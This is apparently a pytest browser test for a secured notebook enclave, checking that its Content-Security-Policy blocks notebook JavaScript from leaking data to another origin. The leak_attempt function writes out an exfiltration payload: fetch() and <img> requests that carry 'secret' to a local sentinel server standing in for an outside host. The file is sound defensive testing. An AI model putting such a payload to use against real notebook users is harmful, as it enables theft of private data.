"""In real Chromium: code in a notebook cannot send data to another origin, and the notebook still works.

The page's Content-Security-Policy comes from the edge. A sentinel web server on this machine, on another
origin (http://127.0.0.1:<its own port>), stands for a server outside the enclave; notebook output runs
JavaScript that tries fetch() and an <img> to it, and the sentinel must receive nothing.

About the certificate: the edge's is self-signed, and Playwright has no per-context way to trust one
certificate (Chromium would need it in an NSS database of its profile), so each browser context is given
`ignore_https_errors=True`, scoped to that context. The certificate itself is verified by the HTTP tests
(tests/support/hub.py verifies every request against it).
"""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.support.browser import log_in


class Sentinel:
    """An HTTP server on 127.0.0.1 (a different origin from the enclave) that records every request."""

    def __init__(self):
        received = self.received = []

        class Record(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                received.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Record)
        self.origin = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def sentinel():
    s = Sentinel()
    yield s
    s.close()


def leak_attempt(origin: str) -> str:
    """Notebook code: an <img> and a fetch() to the sentinel, and a report of what the page saw."""
    return (
        "from IPython.display import HTML, Javascript, display\n"
        "display(Javascript('''\n"
        "const report = document.createElement('pre'); report.id = 'leak-report';\n"
        "const seen = [];\n"
        "document.addEventListener('securitypolicyviolation', e => seen.push(e.violatedDirective.split(' ')[0]));\n"
        f"const img = new Image(); img.src = '{origin}/img?cohort=secret';\n"
        f"fetch('{origin}/fetch?cohort=secret', {{method: 'POST', body: 'secret', mode: 'no-cors'}})\n"
        "  .then(() => 'FETCH-SENT', e => 'FETCH-BLOCKED')\n"
        "  .then(r => setTimeout(() => { report.textContent = r + ' ' + seen.sort().join(','); "
        "document.body.appendChild(report); }, 1000));\n"
        "'''))\n"
        f"display(HTML('<img src=\"{origin}/html-img?cohort=secret\">'))\n"
        "print('the notebook', 'works')\n"
    )


def test_notebook_javascript_cannot_reach_another_origin(page, enclave, sentinel):
    """RT-E15: notebook output runs JavaScript that sends data to a server on another origin."""
    erin = enclave.login("erin")
    assert erin.start("delta").status_code in (201, 202)
    violations: list[str] = []  # what the policy blocked while JupyterLab loaded and ran a cell
    page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
    try:
        log_in(page, enclave.url, "erin", enclave.passwords["erin"])
        page.goto(f"{enclave.url}/user/erin/delta/lab")
        page.wait_for_selector(".jp-Launcher", timeout=120_000)
        page.click(".jp-LauncherCard[data-category='Notebook']")
        cell = page.locator(".jp-Notebook .jp-Cell .cm-content").first
        cell.wait_for(timeout=60_000)
        page.get_by_text("Python 3 (ipykernel) | Idle").wait_for(timeout=60_000)
        # JupyterLab and the hub's pages work under the policy: nothing of theirs was blocked.
        assert violations == [], violations
        cell.click()
        cell.fill(leak_attempt(sentinel.origin))
        page.keyboard.press("Shift+Enter")

        # The notebook still works: the kernel ran the cell and its output is shown.
        page.locator(".jp-OutputArea-output", has_text="the notebook works").wait_for(timeout=60_000)
        # The JavaScript ran (it wrote its report), and the page blocked both requests by its CSP.
        report = page.locator("#leak-report")
        report.wait_for(state="attached", timeout=30_000)
        text = report.text_content()
        assert text.startswith("FETCH-BLOCKED"), text
        assert "connect-src" in text and "img-src" in text, text
        assert sentinel.received == []
    finally:
        erin.stop("delta")
